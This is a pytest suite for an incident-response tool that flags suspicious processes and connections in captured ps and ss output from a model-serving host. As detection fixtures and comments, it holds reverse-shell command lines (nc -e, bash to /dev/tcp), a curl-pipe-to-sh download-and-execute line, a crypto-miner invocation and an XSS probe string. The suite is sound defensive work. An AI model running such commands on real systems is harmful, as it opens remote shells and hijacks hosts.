"""Host state: suspicious processes (ps aux / ps auxf) and connections (ss -tunap), through the real loaders."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
import yaml

from workbench.analysis import AnalysisContext
from workbench.atlas import TECHNIQUES
from workbench.case import Case
from workbench.collect import collect_evidence
from workbench.data import data_file
from workbench.data.host_rules import default_host_rules, load_host_rules
from workbench.errors import RuleError
from workbench.host import analyse_host, program_of, render_host

DATA = Path(__file__).parent / "data" / "host"
SAMPLES = Path(__file__).parents[1] / "evidence-samples"


def run(folder: Path, **parameters):
    case = Case.open(folder)
    evidence = collect_evidence(case)
    return analyse_host(AnalysisContext(case=case, evidence=evidence, parameters=parameters)), evidence


def summary(result) -> list[tuple]:
    return [(f.category, f.severity.value, f.evidence["pid"], f.evidence["line"]) for f in result.findings]


# ------------------------------------------------------------------------------------------------ rules
def test_bundled_rules_load_and_use_known_techniques():
    rules = default_host_rules()
    ids = [r.id for r in rules.rules]
    assert len(ids) == len(set(ids)) >= 12
    expected = {"download_execute", "dev_tcp_shell", "netcat_exec", "interpreter_in_staging_dir", "crypto_miner"}
    assert expected <= set(ids)
    for rule in rules.rules:
        assert rule.atlas and all(a in TECHNIQUES for a in rule.atlas)
        assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", a) for a in rule.attack)


def test_every_rule_example_behaves():
    doc = yaml.safe_load(data_file("suspicious_processes.yaml").read_text())
    compiled = {r.id: r.pattern for r in default_host_rules().rules}
    for raw in doc["rules"]:
        for text in raw["examples"]["match"]:
            assert compiled[raw["id"]].search(text), (raw["id"], text)
        for text in raw["examples"]["no_match"]:
            assert not compiled[raw["id"]].search(text), (raw["id"], text)


GOOD_RULE = {"id": "x", "title": "X", "severity": "high", "pattern": "evil", "atlas": ["AML.T0050"],
             "attack": ["T1059"], "examples": {"match": ["evil thing"], "no_match": ["good thing"]}}  # fmt: skip


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"pattern": "evil("}, "does not compile"),
        ({"severity": "dire"}, "unknown severity"),
        ({"examples": {"match": ["nothing"], "no_match": ["good"]}}, "does not match its example"),
        ({"examples": {"match": ["evil"], "no_match": ["evil too"]}}, "matches its no_match example"),
        ({"examples": {"match": ["evil"]}}, "at least one examples.match and one examples.no_match"),
        ({"atlas": ["AML.T9999"]}, "not in workbench.atlas"),
        ({"attack": ["1059"]}, "not ATT&CK technique ids"),
        ({"patern": "x"}, "unknown key(s) patern"),
    ],
)
def test_invalid_user_rule_names_file_and_rule(tmp_path, change, message):
    path = tmp_path / "mine.yaml"
    path.write_text(yaml.safe_dump({"rules": [{**GOOD_RULE, **change}]}))
    with pytest.raises(RuleError) as err:
        load_host_rules(extra=path)
    assert err.value.rule_id == "x" and err.value.source == str(path)
    assert message in str(err.value)


def test_duplicate_rule_id_and_broken_yaml(tmp_path):
    dup = tmp_path / "dup.yaml"
    dup.write_text(yaml.safe_dump({"rules": [GOOD_RULE, GOOD_RULE]}))
    with pytest.raises(RuleError, match=r"dup.yaml \(rule x\): duplicate rule id"):
        load_host_rules(extra=dup)
    broken = tmp_path / "broken.yaml"
    broken.write_text("rules: [\n  - id: a\n   bad")
    with pytest.raises(RuleError, match="not valid YAML"):
        load_host_rules(extra=broken)


def test_user_rules_extend_and_override_by_id(tmp_path):
    path = tmp_path / "site.yaml"
    override = {**GOOD_RULE, "id": "netcat_tool", "severity": "low", "pattern": "^nc ", "examples": {
        "match": ["nc -l 1"], "no_match": ["ncat"]}}  # fmt: skip
    path.write_text(yaml.safe_dump({"rules": [GOOD_RULE, override]}))
    rules = load_host_rules(extra=path)
    by_id = {r.id: r for r in rules.rules}
    assert by_id["netcat_tool"].severity.value == "low" and "x" in by_id
    assert len(rules.rules) == len(default_host_rules().rules) + 1


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("/usr/local/bin/python3.11 /usr/local/bin/gunicorn app:app -w 2", ("python3.11", "/usr/local/bin/gunicorn")),
        ("/opt/venv/bin/python3 -u -W ignore -m vllm.entrypoints.api", ("python3", "module:vllm.entrypoints.api")),
        ("python3 -c import os", ("python3", None)),
        ("nginx: worker process", ("nginx", None)),
        ("-bash", ("bash", None)),
        ("[kworker/0:1H-kblockd]", ("kworker", None)),
        ("", ("", None)),
    ],
)  # fmt: skip
def test_program_of(command, expected):
    assert program_of(command) == expected


# ------------------------------------------------------------------------------------------------ fixtures
def test_compromised_node_findings():
    result, evidence = run(DATA / "compromised-node")
    assert evidence.warnings == []
    assert summary(result) == [
        ("suspicious_process", "high", 3190, 7),  # bare shell without a terminal, as the vLLM server's user
        ("suspicious_process", "critical", 3191, 8),  # bash -i >& /dev/tcp/...
        ("suspicious_process", "critical", 3195, 9),  # nc -e
        ("suspicious_process", "high", 3200, 10),  # xmrig from /dev/shm
        ("suspicious_process", "critical", 3210, 11),  # python -c socket + dup2
        ("suspicious_process", "critical", 3300, 12),  # socat ... EXEC:/bin/bash
        ("suspicious_connection", "critical", 3300, 5),  # socat listening: bind shell
        ("suspicious_connection", "critical", 3191, 8),  # bash owns a socket to :4444
        ("suspicious_connection", "critical", 3195, 9),  # nc to :9001
        ("suspicious_connection", "critical", 3200, 10),  # miner to pool port 3333
        ("suspicious_connection", "high", 3210, 11),  # reverse shell over 443
        ("suspicious_connection", "high", 3101, 12),  # model server to 192.0.2.80, not allowlisted
    ]
    shell = next(f for f in result.findings if f.evidence["pid"] == 3190)
    assert "inferred from the user and the missing terminal" in shell.detail
    assert shell.evidence["rules"] == "shell_as_server_user"
    bash = next(f for f in result.findings if f.category == "suspicious_connection" and f.evidence["pid"] == 3191)
    assert bash.evidence["peer"] == "198.51.100.9:4444" and bash.evidence["process"] == "bash"
    assert bash.evidence["local"] == "10.20.1.7:41022" and bash.atlas == ("AML.T0072",)
    assert "T1095" in bash.evidence["attack"] and "ATT&CK" in bash.detail
    miner = next(f for f in result.findings if f.category == "suspicious_process" and f.evidence["pid"] == 3200)
    assert miner.evidence["rules"] == "crypto_miner, binary_in_staging_dir" and "T1496" in miner.evidence["attack"]
    # the allowlisted registry (192.0.2.10/32) does not fire; the host name in the allowlist is refused, not resolved
    assert not any("192.0.2.10" in f.evidence.get("peer", "") for f in result.findings)
    assert [str(w) for w in result.warnings] == [
        "case.yaml: network_allowlist entry 'registry.example.com' is not an address or CIDR range (never resolved), "
        "ignored"
    ]
    assert result.data["servers"]["pid"].tolist() == [3101]
    assert result.data["tree"] is False


def test_benign_node_is_silent():
    result, evidence = run(DATA / "benign-node")
    assert evidence.warnings == [] and result.warnings == []
    assert result.findings == []
    assert sorted(result.data["servers"]["pid"]) == [1600, 1611, 1612]
    assert result.summary == "No suspicious process or connection in the captured host state."


def test_allowlist_from_case_or_parameters(tmp_path):
    case = tmp_path / "node"
    shutil.copytree(DATA / "benign-node", case)
    (case / "case.yaml").write_text("incident_id: T\n")
    result, _ = run(case)
    # only the model server's outbound connection counts; containerd to the same registry is an ordinary process
    assert [(f.severity.value, f.evidence["process"], f.evidence["peer"]) for f in result.findings] == [
        ("high", "gunicorn", "192.0.2.10:443")
    ]
    assert run(case, network_allowlist="192.0.2.0/24, 2001:db8:10::/48")[0].findings == []
    assert run(case, network_allowlist=["192.0.2.10"])[0].findings == []


def test_process_tree_from_ps_auxf():
    result, _ = run(DATA / "process-tree")
    assert result.data["tree"] is True
    assert [(f.evidence["pid"], f.severity.value, f.evidence.get("parent_pid"), f.evidence["rules"])
            for f in result.findings] == [
        (2231, "high", 18, "shell_from_model_server"),
        (2240, "high", 2231, "interpreter_in_staging_dir, descends_from_model_server"),
    ]  # fmt: skip
    # the bare shell under tini (pid 5000) is no child of the server: with a tree, nothing is inferred
    assert "from the ps process tree" in result.findings[0].detail


# ------------------------------------------------------------------------------------------------ sample cases
@pytest.mark.skipif(not SAMPLES.is_dir(), reason="evidence-samples not generated")
def test_sample_cases():
    tampered, _ = run(SAMPLES / "tampered-weights")
    assert summary(tampered) == [
        ("suspicious_process", "critical", 2231, 6),  # sh -c curl -s http://203.0.113.7/p.sh | sh
        ("suspicious_process", "high", 2234, 7),  # its sh, no terminal, as mlsvc
        ("suspicious_process", "high", 2240, 8),  # python3 /tmp/.cache/x.py
        ("suspicious_connection", "critical", 19, 6),  # gunicorn worker to 203.0.113.7:4444
        ("suspicious_connection", "high", 2240, 7),  # x.py to 203.0.113.7:443
    ]
    poisoned, _ = run(SAMPLES / "poisoned-dependency")
    assert summary(poisoned) == [("suspicious_process", "high", 58, 7), ("suspicious_connection", "high", 58, 7)]
    assert poisoned.findings[1].evidence["state"] == "ESTAB, SYN-SENT"
    assert poisoned.findings[1].evidence["peer"] == "198.51.100.23:443"
    clean, _ = run(SAMPLES / "false-alarm")
    assert clean.findings == []


# ------------------------------------------------------------------------------------------------ bounded findings
SS_HEAD = "Netid State     Recv-Q Send-Q         Local Address:Port Peer Address:Port          Process"
PS_HEAD = "USER          PID %CPU %MEM      VSZ     RSS TTY      STAT START   TIME COMMAND"


def _socket(local: str, peer: str, name: str, pid: int) -> str:
    return f'tcp   ESTAB     0      0     {local} {peer}   users:(("{name}",pid={pid},fd=3))'


def test_thousands_of_sockets_to_one_peer_are_one_finding(tmp_path):
    case = tmp_path / "node"
    case.mkdir()
    ps = [
        PS_HEAD,
        "mlsvc          19  1.0  2.0  912340  88210 ?        Sl   Nov20   9:10 /opt/venv/bin/gunicorn app:app",
    ]
    ps += [f"mlsvc       {3000 + i:5d} 99.0  1.0  241322  16384 ?        Rl   09:13  55:21 /dev/shm/.x/xmrig -o "
           "stratum+tcp://pool.example.net:3333" for i in range(2000)]  # fmt: skip
    (case / "processes.txt").write_text("\n".join(ps) + "\n")
    ss = [SS_HEAD, 'tcp   LISTEN    0      128     0.0.0.0:8000 0.0.0.0:*   users:(("gunicorn",pid=19,fd=5))']
    peer_lines, other_lines = [], []
    for i in range(5000):  # the model server: 5,000 sockets to one outside peer, and a few to a second one
        ss.append(_socket(f"10.20.1.7:{20000 + i}", "198.51.100.23:443", "gunicorn", 19))
        peer_lines.append(len(ss))
        if i % 1000 == 0:
            ss.append(_socket(f"10.20.1.7:{40000 + i}", "198.51.100.24:443", "gunicorn", 19))
            other_lines.append(len(ss))
        ss.append(_socket(f"10.20.1.7:{50000 + i % 9000}", "10.20.0.5:5432", "gunicorn", 19))
    (case / "network.txt").write_text("\n".join(ss) + "\n")
    result, evidence = run(case)
    assert evidence.warnings == [] and result.warnings == []
    procs = [f for f in result.findings if f.category == "suspicious_process"]
    conns = [f for f in result.findings if f.category == "suspicious_connection"]
    assert len(procs) == 1 and len(conns) == 2  # the internal database (10.20.0.5) gives none
    miner = procs[0]
    assert (miner.evidence["count"], miner.evidence["pids"], miner.evidence["pid"]) == (2000, 2000, 3000)
    assert (miner.evidence["line"], miner.evidence["last_line"]) == (3, 2002)
    assert miner.evidence["examples"] == ["pid 3000", "pid 3001", "pid 3002"]
    assert miner.title.startswith("2,000 suspicious processes (mlsvc)") and "and 1,980 more" in miner.detail
    main, other = conns
    assert main.evidence["peer"] == "198.51.100.23:443" and other.evidence["peer"] == "198.51.100.24:443"
    assert (main.evidence["count"], main.evidence["pids"], main.evidence["pid"]) == (5000, 1, 19)
    assert (main.evidence["line"], main.evidence["last_line"]) == (peer_lines[0], peer_lines[-1])
    assert main.evidence["examples"] == [f"pid 19 10.20.1.7:{p} ESTAB" for p in (20000, 20001, 20002)]
    assert main.severity.value == "high" and "5,000 sockets" in main.title and len(main.detail) < 1000
    assert (other.evidence["count"], other.evidence["line"], other.evidence["last_line"]) == (
        5, other_lines[0], other_lines[-1])  # fmt: skip
    rows = result.data["connections"]
    assert rows["count"].tolist() == [5000, 5] and rows["line"].tolist() == [peer_lines[0], other_lines[0]]
    assert (
        result.summary == "Host state: 2,000 suspicious process(es) (2,000 high) and 5,005 connection(s) (5,005 high)."
    )
    assert len(result.data["processes"]) == 2000  # the table lists every flagged process; the findings group them


def test_different_commands_and_peers_stay_apart(tmp_path):
    case = tmp_path / "node"
    case.mkdir()
    (case / "processes.txt").write_text("\n".join([
        PS_HEAD,
        "llm          3195  0.0  0.0     5512    1888 ?        S    09:12   0:00 nc -e /bin/sh 198.51.100.9 9001",
        "llm          3196  0.0  0.0     5512    1888 ?        S    09:12   0:00 nc -e /bin/sh 198.51.100.9 9002",
        "llm          3197  0.0  0.0     5512    1888 ?        S    09:12   0:00 nc -e /bin/sh 198.51.100.9 9001",
    ]) + "\n")  # fmt: skip
    (case / "network.txt").write_text("\n".join([
        SS_HEAD,
        'tcp   ESTAB     0      0     10.20.1.7:41030 198.51.100.9:9001   users:(("nc",pid=3195,fd=3))',
        'tcp   ESTAB     0      0     10.20.1.7:41031 198.51.100.9:9002   users:(("nc",pid=3196,fd=3))',
        'tcp   ESTAB     0      0     10.20.1.7:41032 198.51.100.9:9001   users:(("nc",pid=3197,fd=3))',
    ]) + "\n")  # fmt: skip
    result, _ = run(case)
    assert [(f.category, f.evidence["pid"], f.evidence["count"], f.evidence["line"], f.evidence["last_line"])
            for f in result.findings] == [
        ("suspicious_process", 3195, 2, 2, 4), ("suspicious_process", 3196, 1, 3, 3),
        ("suspicious_connection", 3195, 2, 2, 4), ("suspicious_connection", 3196, 1, 3, 3),
    ]  # fmt: skip
    assert result.findings[1].title.startswith("Suspicious process 3196 (llm)")
    assert result.findings[2].evidence["examples"] == [
        "pid 3195 10.20.1.7:41030 ESTAB",
        "pid 3197 10.20.1.7:41032 ESTAB",
    ]
    assert result.findings[2].evidence["pids"] == 2 and "2 pids" in result.findings[2].title


# ------------------------------------------------------------------------------------------------ bad input
def test_hostile_captures_do_not_crash(tmp_path):
    case = tmp_path / "bad"
    case.mkdir()
    ps = (DATA / "compromised-node" / "processes.txt").read_bytes().splitlines()
    garbage = [b"\x00\xff\xfe binary \x9c", b"root notapid 0.0 0.0 1 1 ? S 09:00 0:00 x", b"x" * 200_000,
               b"app 77 0.0 0.0 1 1 ? S 09:00 0:00 python3 /tmp/\xff\xfe<script>alert(1)</script>.py"]  # fmt: skip
    (case / "processes.txt").write_bytes(b"\n".join([*ps[:3], *garbage]) + b"\n")
    (case / "network.txt").write_bytes(
        b"Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n"
        b"tcp ESTAB 0 0 10.0.0.5:4000 198.51.100.9:4444 users:((\"sh\",pid=77,fd=3))\n"
        b"tcp ESTAB 0 0 10.0.0.5:4001 not-an-address:443 users:((\"x\",pid=78,fd=3))\n"
        b"tcp ESTAB zero 0 10.0.0.5:4002 198.51.100.9:443 weird\n"
    )  # fmt: skip
    (case / "case.yaml").write_text("network_allowlist: ['10.0.0.0/33', 42]\n")
    result, evidence = run(case)
    warned = {(w.path, w.line) for w in evidence.warnings}
    assert {("processes.txt", 4), ("processes.txt", 5), ("processes.txt", 6), ("network.txt", 4)} <= warned
    assert [(f.category, f.severity.value, f.evidence["pid"]) for f in result.findings] == [
        ("suspicious_process", "high", 77),
        ("suspicious_connection", "critical", 77),
    ]
    assert len(result.warnings) == 2 and all(w.path == "case.yaml" for w in result.warnings)
    html = "".join(render_host(result)).replace("<wbr>", "")  # path cells carry break points
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_empty_and_missing_captures(tmp_path):
    case = tmp_path / "empty"
    case.mkdir()
    (case / "processes.txt").write_bytes(b"")
    (case / "notes.md").write_text("nothing here\n")
    result, _ = run(case)
    assert result.findings == [] and isinstance(render_host(result), list)
    other = tmp_path / "none"
    other.mkdir()
    (other / "notes.md").write_text("x\n")
    assert run(other)[0].summary == "No process list (ps aux) or socket list (ss -tunap) in the case."


def test_network_capture_alone_still_judges_sockets(tmp_path):
    case = tmp_path / "net"
    case.mkdir()
    shutil.copy(DATA / "compromised-node" / "network.txt", case / "network.txt")
    result, _ = run(case)
    got = [(f.severity.value, f.evidence["process"], f.evidence["peer"]) for f in result.findings]
    # without ps, the server is known from its listening socket; the /tmp-less reverse shells by their owners
    assert got == [
        ("critical", "socat", "0.0.0.0:*"),
        ("critical", "bash", "198.51.100.9:4444"),
        ("critical", "nc", "198.51.100.9:9001"),
        ("high", "xmrig", "203.0.113.50:3333"),
        ("high", "python3", "192.0.2.80:443"),
        ("high", "python3", "192.0.2.10:443"),
    ]
